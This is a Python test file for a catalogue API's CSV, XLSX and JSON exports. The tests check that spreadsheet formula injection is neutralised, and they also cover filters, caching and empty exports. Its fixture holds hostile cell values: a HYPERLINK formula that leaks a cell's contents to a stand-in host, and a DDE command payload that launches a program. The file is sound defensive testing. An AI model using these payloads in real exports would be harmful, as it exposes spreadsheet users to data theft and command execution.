"""Open-data exports: CSV (BOM, formula injection neutralised), XLSX and JSON, with the list's
filters, and cacheable like every public read."""

from __future__ import annotations

import csv
import io
import json

import httpx
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession

from api.catalogue.export import COLUMNS
from tests.catalogue.helpers import make_entry, walk
from tests.factories.identity import make_org

BASE = "/api/v1/catalogue"
HOSTILE = {
    "product_name_zh": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "model_spec": "+1-555-0100",
    "summary_zh": "-2+3*cmd|' /C calc'!A0",
    "summary_en": "\tTAB-led",
}


async def hostile_entry(db: AsyncSession) -> str:
    org = await make_org(db, name_zh="@SUM(1+1)公司")
    award = await make_entry(db, org=org, product_name_en="\rcarriage", **HOSTILE)
    return award.number


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"), newline="")))


class TestCsv:
    async def test_formula_cells_are_neutralised(
        self, db: AsyncSession, client: httpx.AsyncClient
    ) -> None:
        number = await hostile_entry(db)
        response = await client.get(f"{BASE}/export.csv")
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        assert "attachment" in response.headers["content-disposition"]
        header, *rows = csv_rows(response.content)
        assert header[:3] == ["证书编号", "状态", "年度"]
        row = dict(zip(header, next(r for r in rows if r[0] == number), strict=True))
        assert row["产品名称"] == "'" + HOSTILE["product_name_zh"]
        assert row["型号规格"] == "'+1-555-0100"
        assert row["产品简介"] == "'" + HOSTILE["summary_zh"]
        assert row["英文简介"] == "'\tTAB-led"
        assert row["英文名称"] == "'\rcarriage"
        assert row["申报单位"] == "'@SUM(1+1)公司"
        # no cell of any row starts with a trigger any more
        for r in rows:
            assert not [c for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    async def test_filters_and_english_headers(
        self, db: AsyncSession, client: httpx.AsyncClient
    ) -> None:
        await make_entry(db, field="aerospace", product_name_en="Star tracker")
        await make_entry(db, field="transport")
        response = await client.get(
            f"{BASE}/export.csv", params={"field": "aerospace", "lang": "en"}
        )
        header, *rows = csv_rows(response.content)
        assert header[0] == "Certificate number"
        listed = await walk(client, f"{BASE}/products", field="aerospace")
        assert sorted(r[0] for r in rows) == sorted(i["certificate_number"] for i in listed)
        assert {r[header.index("Field")] for r in rows} == {"Aerospace"}
        assert len(header) == len(COLUMNS)

    async def test_etag_answers_304(self, db: AsyncSession, client: httpx.AsyncClient) -> None:
        await make_entry(db)
        first = await client.get(f"{BASE}/export.csv")
        again = await client.get(
            f"{BASE}/export.csv", headers={"If-None-Match": first.headers["etag"]}
        )
        assert again.status_code == 304
        other = await client.get(
            f"{BASE}/export.json", headers={"If-None-Match": first.headers["etag"]}
        )
        assert other.status_code == 200

    async def test_bad_filter_is_a_422_before_any_byte(self, client: httpx.AsyncClient) -> None:
        response = await client.get(f"{BASE}/export.csv", params={"level": "best"})
        assert response.status_code == 422
        assert response.headers["content-type"] == "application/problem+json"


class TestXlsx:
    async def test_workbook_parses_and_keeps_formula_text_as_text(
        self, db: AsyncSession, client: httpx.AsyncClient
    ) -> None:
        number = await hostile_entry(db)
        await make_entry(db)
        response = await client.get(f"{BASE}/export.xlsx")
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        rows = list(sheet.iter_rows())
        header = [c.value for c in rows[0]]
        assert header[0] == "证书编号"
        assert len(rows) == 3
        row = next(r for r in rows[1:] if r[0].value == number)
        cell = row[header.index("产品名称")]
        assert cell.value == HOSTILE["product_name_zh"]  # exact text, never a formula
        assert cell.data_type == "s"
        assert cell.quotePrefix
        assert row[header.index("年度")].data_type == "n"


class TestJson:
    async def test_array_of_details(self, db: AsyncSession, client: httpx.AsyncClient) -> None:
        awards = [await make_entry(db) for _ in range(3)]
        response = await client.get(f"{BASE}/export.json")
        assert response.status_code == 200
        body = json.loads(response.content)
        assert {d["id"] for d in body} == {str(a.id) for a in awards}
        detail = (await client.get(f"{BASE}/products/{awards[0].id}")).json()
        assert next(d for d in body if d["id"] == detail["id"]) == detail

    async def test_empty_exports_are_well_formed(self, client: httpx.AsyncClient) -> None:
        params = {"q": "没有这样的产品名称"}
        assert json.loads((await client.get(f"{BASE}/export.json", params=params)).content) == []
        header, *rows = csv_rows((await client.get(f"{BASE}/export.csv", params=params)).content)
        assert rows == []
        assert header[0] == "证书编号"
        xlsx = await client.get(f"{BASE}/export.xlsx", params=params)
        sheet = load_workbook(io.BytesIO(xlsx.content)).active
        assert sheet is not None
        assert sheet.max_row == 1
